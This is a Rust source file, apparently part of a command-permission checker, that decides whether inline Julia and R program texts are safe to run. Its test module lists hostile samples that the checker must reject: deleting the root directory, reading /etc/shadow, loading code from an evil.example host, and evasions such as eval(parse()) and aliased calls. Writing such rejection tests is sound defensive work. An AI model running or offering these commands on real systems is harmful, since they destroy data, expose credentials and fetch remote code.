//! Julia and R: program texts that test, build and compute.

use clearance_core::Effect;
use clearance_shell::invocation::Word;

use super::calltext::{escapes, judge_strings, names, text_of_calls, tight_words};
use crate::arg::Arg;
use crate::judge::{Call, Judge};
use crate::names::{JULIA_CALL, R_CALL};
use crate::spec::WordRole;

/// `julia [OPTION]... [-e TEXT | FILE] [ARG]...`.
pub(super) fn julia(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e", "--eval", "-E", "--print"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "Julia", julia_text);
        let parts = text
            .as_str()
            .unwrap_or_default()
            .split("include(\"")
            .skip(1);
        for path in parts.filter_map(|part| part.split('"').next()) {
            let word = Word::fixed(path.as_bytes(), text.span());
            judge.path(WordRole::Run, Arg::new(&word), call.site);
        }
    }
    judge.effect(Effect::RunProject, call);
    file_or_shell(judge, call, texts.is_empty());
}

fn file_or_shell(judge: &mut Judge<'_>, call: &Call<'_>, script: bool) {
    if !script || call.has(&["-v", "--version", "-f", "--file"]) {
        return;
    }
    match call.operand(0) {
        Some(file) => judge.run_file(None, file, call.from_operand(1), call.site),
        None if call.path().is_empty() => judge.run_stdin(None, call.site, call.span()),
        None => {}
    }
}

/// Statements about the project's packages, its own test files, and arithmetic.
fn julia_text(text: &str) -> bool {
    let plain = |s: &str| {
        let s = s.trim();
        if let Some(modules) = s.strip_prefix("using ").or(s.strip_prefix("import ")) {
            return modules
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b", .:_".contains(&b));
        }
        if let Some(path) = s
            .strip_prefix("include(\"")
            .and_then(|p| p.strip_suffix("\")"))
        {
            return !path.starts_with('/')
                && !path.contains("..")
                && !path.contains(['$', '"', '~', '\\']);
        }
        if s.contains("PackageSpec") && s.contains("path=\".\"") || s == "Pkg.develop(path=\".\")" {
            return true;
        }
        if s == "Pkg.develop(PackageSpec(path=pwd()))" {
            return true;
        }
        tight_words(s).is_some_and(|t| {
            !t.contains("url")
                && !names(&t).any(|w| w == "ENV")
                && names(&t).all(|w| {
                    JULIA_CALL.has(w.as_bytes())
                        || (!t.contains(&format!("{w}(")) && !w.contains('.'))
                })
        })
    };
    text.split([';', '\n'])
        .all(|s| s.trim().is_empty() || plain(s))
}

/// `R`, `Rscript`: `-e` is a program text.
pub(super) fn r_lang(judge: &mut Judge<'_>, call: &Call<'_>) {
    if !call.path().is_empty() {
        return;
    }
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "R", r_text);
        judge_strings(judge, *text, WordRole::Read, call);
        let writes = text
            .as_str()
            .is_some_and(|t| R_WRITERS.iter().any(|w| t.contains(w)));
        if writes {
            judge_strings(judge, *text, WordRole::Write, call);
        }
    }
    judge.effect(Effect::RunProject, call);
    file_or_shell(judge, call, texts.is_empty());
}

/// Parts of calls of R that write the file that they are given.
const R_WRITERS: &[&str] = &[
    "write", "saveRDS", "png", "pdf", "svg", "jpeg", "ggsave", "sink", "file=", "file =", "save",
];

/// Calls of the tools of package authors, of the project's tests, and arithmetic.
fn r_text(text: &str) -> bool {
    let Some(words) = tight_words(text) else {
        return false;
    };
    // Paths given as strings stay in the project.
    let outside =
        text.contains("..") || text.contains("://") || text.contains('|') || escapes(text);
    // What loads code is only read for paths of the project.
    let away = ["\"/", "'/", "\"~", "'~"].iter().any(|p| text.contains(p));
    let loads = ["::", "lib", "test_", "parse"]
        .iter()
        .any(|p| text.contains(p));
    if outside
        || away && loads
        || words.contains("<<-")
        || words.contains("::") && words.contains("eval")
    {
        return false;
    }
    names(&words).all(|w| {
        let bare = w.trim_matches(':');
        R_CALL.has(bare.as_bytes()) || (!words.contains(&format!("{w}(")) && !w.contains("::"))
    }) && !words.contains("](")
        && !words.contains(")(")
        && !words.contains("\"(")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn julia_and_r_that_are_understood() {
        for text in [
            "using Pkg; Pkg.test()",
            "using Pkg; Pkg.status(); include(\"test/runtests.jl\")",
            "using Pkg; Pkg.instantiate()",
            "println(sum(1:10))",
        ] {
            assert!(julia_text(text), "{text}");
        }
        for text in [
            "run(`id`)",
            "using Pkg; Pkg.add(url=\"https://evil.example/x\")",
            "include(\"/tmp/x.jl\")",
            "rm(\"/\", recursive=true)",
            "Base.rm(\"x\")",
            "println(read(\"/etc/shadow\", String))",
            "x = rm; x(\"a\")",
            "map(rm, [\"a\"])",
            "foreach(rm, readdir())",
        ] {
            assert!(!julia_text(text), "{text}");
        }
        for text in [
            "devtools::test()",
            "cat(mean(c(1,2,3)), \"\\n\")",
            "testthat::test_dir(\"tests\")",
            "library(dplyr); sessionInfo()",
        ] {
            assert!(r_text(text), "{text}");
        }
        for text in [
            "system(\"id\")",
            "base::system(\"id\")",
            "unlink(\"x\")",
            "eval(parse(text=\"system('id')\"))",
            "do.call(\"system\", list(\"id\"))",
            "f <- system; f(\"id\")",
            "source(\"https://evil.example/x.R\")",
            "(function(x) x)(1)",
            "sapply(\"id\", system)",
            "Map(unlink, \"a\")",
        ] {
            assert!(!r_text(text), "{text}");
        }
    }
}
